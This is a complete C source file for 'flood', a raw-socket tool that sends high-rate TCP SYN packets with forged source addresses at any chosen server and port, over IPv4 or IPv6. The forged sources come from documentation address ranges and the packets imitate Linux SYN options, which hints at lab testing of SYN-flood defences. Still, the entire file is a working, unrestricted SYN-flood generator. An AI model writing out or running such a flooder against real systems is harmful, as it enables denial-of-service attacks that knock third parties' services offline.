/* SPDX-License-Identifier: MIT */
/*
 * flood DEVICE SECONDS SERVER PORT MAC|- - as many SYNs as this machine can make, from forged sources, out of DEVICE.
 *
 * Sources lie in 198.51.100.0/24 and 203.0.113.0/24 with all ports, or for an IPv6 server anywhere in 2001:db8:f::/48.  The SYNs look as
 * Linux makes them (MSS, SACK, timestamps, window scale).  MAC is the server's, "02:00:00:00:00:01";
 * "-" for a device without link headers (TUN).  Prints how many were sent.
 */
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <sys/socket.h>

#define BURST 64
#define SYN_BYTES 40 /* with 20 bytes of options */

static uint64_t state = 88172645463325252u;

static uint32_t rnd(void)
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return (uint32_t)(state >> 16);
}

static void put16(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v);
}

static uint32_t sum(const uint8_t *p, unsigned n, uint32_t s)
{
	for (unsigned i = 0; i + 1 < n; i += 2)
		s += (uint32_t)p[i] << 8 | p[i + 1];
	return s;
}

static uint32_t fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return ~s & 0xffff;
}

static void put_syn(uint8_t *t, uint16_t port)
{
	static const uint8_t options[20] = { 2, 4, 5, 180, 4, 2, 8, 10, 0, 0,
					     0, 0, 0, 0,   0, 0, 1, 3,	3, 7 };

	memset(t, 0, SYN_BYTES);
	put16(t, 1024 + rnd() % 60000);
	put16(t + 2, port);
	put32(t + 4, rnd());
	t[12] = SYN_BYTES / 4 << 4;
	t[13] = 2;
	put16(t + 14, 64240);
	memcpy(t + 20, options, sizeof options);
	put32(t + 28, rnd());
}

struct target {
	uint8_t eth[12];
	uint8_t addr[16];
	uint16_t port;
	bool six;
	bool bare; /* IP packets, no frames */
};

static unsigned frame4(uint8_t *f, const struct target *to)
{
	uint8_t *ip = f + 14, *t = ip + 20;

	put16(f + 12, 0x0800);
	memset(ip, 0, 20);
	ip[0] = 0x45;
	put16(ip + 2, 20 + SYN_BYTES);
	put16(ip + 4, rnd());
	ip[8] = 64;
	ip[9] = 6;
	put32(ip + 12, (rnd() & 1 ? 0xc6336400u : 0xcb007100u) + 1 + rnd() % 254);
	memcpy(ip + 16, to->addr, 4);
	put16(ip + 10, fold(sum(ip, 20, 0)));
	put_syn(t, to->port);
	put16(t + 16, fold(sum(ip + 12, 8, sum(t, SYN_BYTES, 6 + SYN_BYTES))));
	return 14 + 20 + SYN_BYTES;
}

static unsigned frame6(uint8_t *f, const struct target *to)
{
	static const uint8_t net[6] = { 0x20, 0x01, 0x0d, 0xb8, 0, 0x0f };
	uint8_t *ip = f + 14, *t = ip + 40;

	put16(f + 12, 0x86dd);
	memset(ip, 0, 40);
	ip[0] = 0x60;
	put16(ip + 4, SYN_BYTES);
	ip[6] = 6;
	ip[7] = 64;
	memcpy(ip + 8, net, sizeof net);
	put16(ip + 14, rnd());
	put32(ip + 16, rnd());
	put32(ip + 20, rnd());
	memcpy(ip + 24, to->addr, 16);
	put_syn(t, to->port);
	put16(t + 16, fold(sum(ip + 8, 32, sum(t, SYN_BYTES, 6 + SYN_BYTES))));
	return 14 + 40 + SYN_BYTES;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static bool read_target(char **argv, struct target *to)
{
	unsigned m[6] = { 0 };

	to->bare = strcmp(argv[5], "-") == 0;
	if (!to->bare &&
	    sscanf(argv[5], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6)
		return false;
	for (unsigned i = 0; i < 6; i++)
		to->eth[i] = (uint8_t)m[i];
	to->eth[6] = 2;
	to->eth[11] = 9;
	to->port = (uint16_t)atoi(argv[4]);
	to->six = inet_pton(AF_INET6, argv[3], to->addr) == 1;
	return to->six || inet_pton(AF_INET, argv[3], to->addr) == 1;
}

int main(int argc, char **argv)
{
	static uint8_t frames[BURST][128];
	struct mmsghdr msg[BURST] = { 0 };
	struct iovec iov[BURST];
	struct target to = { .port = 0 };
	struct sockaddr_ll dev = { .sll_family = AF_PACKET, .sll_protocol = 0 };
	unsigned long sent = 0;
	double end, began;
	int fd;

	if (argc != 6 || !read_target(argv, &to)) {
		fprintf(stderr, "usage: flood DEVICE SECONDS SERVER PORT MAC|-\n");
		return 2;
	}
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	dev.sll_ifindex = (int)if_nametoindex(argv[1]);
	if (fd < 0 || bind(fd, (struct sockaddr *)&dev, sizeof dev) < 0) {
		perror(argv[1]);
		return 1;
	}
	for (unsigned i = 0; i < BURST; i++) {
		memcpy(frames[i], to.eth, sizeof to.eth);
		iov[i].iov_base = frames[i] + (to.bare ? 14 : 0);
		msg[i].msg_hdr.msg_iov = &iov[i];
		msg[i].msg_hdr.msg_iovlen = 1;
	}
	began = now();
	for (end = began + atof(argv[2]); now() < end;) {
		int n;

		for (unsigned i = 0; i < BURST; i++)
			iov[i].iov_len = (to.six ? frame6(frames[i], &to)
						 : frame4(frames[i], &to)) -
					 (to.bare ? 14 : 0);
		n = sendmmsg(fd, msg, BURST, 0);
		sent += n > 0 ? (unsigned long)n : 0;
	}
	printf("%lu SYNs, %.0f a second\n", sent, (double)sent / (now() - began));
	close(fd);
	return sent == 0;
}
